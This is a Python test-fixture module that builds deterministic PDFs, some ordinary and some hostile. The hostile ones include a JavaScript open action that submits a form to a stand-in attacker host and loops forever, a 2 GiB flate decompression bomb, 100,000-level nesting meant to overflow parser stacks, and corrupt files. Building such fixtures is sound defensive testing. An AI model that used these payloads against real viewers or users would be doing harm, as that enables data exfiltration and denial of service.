"""Test PDFs, built in memory and byte-for-byte deterministic: ordinary ones (fpdf2) and hostile
ones written by hand where fpdf2 cannot produce them (JavaScript actions, huge page trees, deep
nesting, a decompression bomb, corruption)."""

from __future__ import annotations

import io
import zlib
from collections.abc import Sequence
from datetime import UTC, datetime

from fpdf import FPDF
from PIL import Image

__all__ = [
    "BOMB_INFLATED_BYTES",
    "corrupt_pdf",
    "deep_nesting_pdf",
    "encrypted_pdf",
    "flate_bomb_pdf",
    "javascript_pdf",
    "many_pages_pdf",
    "raw_pdf",
    "scanned_pdf",
    "text_pdf",
]

_FIXED_DATE = datetime(2024, 1, 1, tzinfo=UTC)  # fpdf2 stamps the creation date (and hashes it into /ID)


def _fpdf(**kwargs) -> FPDF:
    pdf = FPDF(**kwargs)
    pdf.set_creation_date(_FIXED_DATE)
    pdf.set_auto_page_break(False)
    return pdf


def _lines_page(pdf: FPDF, lines: Sequence[str], size: float = 12) -> None:
    pdf.add_page()
    pdf.set_font("Helvetica", size=size)
    pdf.set_xy(20, 20)
    for line in lines:
        pdf.cell(0, size * 0.6, line, new_x="LMARGIN", new_y="NEXT")


def text_pdf(pages: Sequence[Sequence[str]]) -> bytes:
    """A PDF with a text layer: one page (A4, Helvetica 12 pt) per entry, one line per string."""
    pdf = _fpdf()
    for lines in pages:
        _lines_page(pdf, lines)
    return bytes(pdf.output())


def scanned_pdf(image: Image.Image, *, dpi: float = 150) -> bytes:
    """One page holding only `image` (no text layer), sized so that rendering the page at `dpi`
    gives back the image's pixel size."""
    width_pt, height_pt = image.width * 72 / dpi, image.height * 72 / dpi
    pdf = _fpdf(unit="pt", format=(width_pt, height_pt))
    pdf.add_page()
    buffer = io.BytesIO()
    image.convert("RGB").save(buffer, "PNG")
    pdf.image(buffer, x=0, y=0, w=width_pt, h=height_pt)
    return bytes(pdf.output())


def encrypted_pdf(user_password: str = "secret", lines: Sequence[str] = ("Confidential report",)) -> bytes:
    """One text page, encrypted (RC4) with `user_password` (owner password "owner"). An empty
    user password gives a PDF any viewer opens without asking."""
    pdf = _fpdf()
    pdf.set_encryption(owner_password="owner", user_password=user_password)
    _lines_page(pdf, lines)
    return bytes(pdf.output())


# ---------------------------------------------------------------------------------------------
# hand-written PDFs


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def raw_pdf(objects: Sequence[bytes], *, root: int = 1) -> bytes:
    """A PDF of `objects` (bodies of objects 1..n, in order) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _text_content(lines: Sequence[str]) -> bytes:
    ops = [b"BT /F1 14 Tf 72 760 Td 18 TL"]
    for line in lines:
        escaped = line.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        ops.append(b"(" + escaped + b") Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops)


def javascript_pdf(lines: Sequence[str] = ("Quarterly results attached.", "Revenue grew 12 percent.")) -> bytes:
    """A valid one-page PDF whose catalog runs JavaScript on open (/OpenAction), names a
    document-level script and gives the page an open action too: a viewer that ran it would loop
    forever and try to submit the form. The page has a text layer of `lines`."""
    js = b"(app.alert\\('pwned'\\); this.submitForm\\('http://attacker.invalid/'\\); while \\(true\\) {})"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 7 0 R >> >> "
        b"/Contents 4 0 R /AA << /O 5 0 R >> >>",
        _stream(_text_content(lines)),
        b"<< /Type /Action /S /JavaScript /JS " + js + b" >>",
        b"<< /Names [(init) 5 0 R] >>",
        _FONT,
    ]
    return raw_pdf(objects)


def many_pages_pdf(n: int) -> bytes:
    """A PDF with `n` pages: a flat page tree of `n` distinct, empty, 200 x 200 pt page objects
    (~40 bytes each, so 5000 pages is ~200 KB and builds in milliseconds)."""
    first_page = 3
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(n))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d /MediaBox [0 0 200 200] >>" % n,
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R >>"] * n
    return raw_pdf(objects)


def deep_nesting_pdf(depth: int = 100_000) -> bytes:
    """A one-page PDF (with a line of text) whose page resources hold an array nested `depth`
    deep, `[[[[...]]]]`, and whose catalog holds a dictionary nested `depth` deep: a parser that
    recurses per level overflows its stack."""
    arrays = b"[" * depth + b"]" * depth
    dicts = b"<< /A " * depth + b"null" + b" >>" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> /Properties << /Deep " + arrays + b" >> >> /Contents 4 0 R >>",
        _stream(_text_content(["Nested all the way down."])),
        _FONT,
        dicts,
    ]
    return raw_pdf(objects)


# 1 MiB: one path operator, then blanks. Deflate's best case is a run (match distance 1, no extra
# bits): ~1030:1. A run of whole operators repeats with their length as the distance, which costs
# extra bits per match and halves the ratio; the point here is the inflated size.
_BOMB_OP = b"0 0 m 1 1 l S"
_BOMB_CHUNK = _BOMB_OP + b" " * (1024 * 1024 - len(_BOMB_OP) - 1) + b"\n"
_BOMB_CHUNKS = 2048
BOMB_INFLATED_BYTES = len(_BOMB_CHUNK) * _BOMB_CHUNKS  # 2 GiB


def _adler32_combine(adler1: int, adler2: int, len2: int) -> int:
    """zlib's adler32_combine (not exposed by Python's zlib): the Adler-32 of A + B from theirs."""
    base = 65521
    rem = len2 % base
    sum1 = adler1 & 0xFFFF
    sum2 = (rem * sum1) % base
    sum1 += (adler2 & 0xFFFF) + base - 1
    sum2 += ((adler1 >> 16) & 0xFFFF) + ((adler2 >> 16) & 0xFFFF) + base - rem
    return (sum1 % base) | ((sum2 % base) << 16)


def bomb_stream(chunks: int = _BOMB_CHUNKS) -> bytes:
    """A zlib stream inflating to `chunks` MiB of content (a path operator per MiB, then blanks).

    Compressing 2 GiB would take ~10 s; instead one chunk is deflated ending in a full flush
    (which resets the compressor, so the block is self-contained and byte-identical each time it
    follows another), the block is repeated, and the Adler-32 trailer is combined arithmetically."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(_BOMB_CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)  # the final empty block
    chunk_adler = zlib.adler32(_BOMB_CHUNK)
    adler = 1  # Adler-32 of nothing
    for _ in range(chunks):
        adler = _adler32_combine(adler, chunk_adler, len(_BOMB_CHUNK))
    return b"\x78\xda" + block * chunks + tail + adler.to_bytes(4, "big")


def flate_bomb_pdf(chunks: int = _BOMB_CHUNKS) -> bytes:
    """A one-page PDF whose content stream (FlateDecode, ~2 MB) inflates to 2 GiB (`chunks` MiB)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        _stream(bomb_stream(chunks), b"/Filter /FlateDecode "),
    ]
    return raw_pdf(objects)


def corrupt_pdf() -> bytes:
    """A PDF header followed by deterministic garbage: no object, no trailer, nothing to recover."""
    state = 0x2545_5044  # xorshift32, seeded
    garbage = bytearray()
    for _ in range(4096):
        state ^= (state << 13) & 0xFFFF_FFFF
        state ^= state >> 17
        state ^= (state << 5) & 0xFFFF_FFFF
        garbage.append(state & 0xFF)
    return b"%PDF-1.7\n" + bytes(garbage)
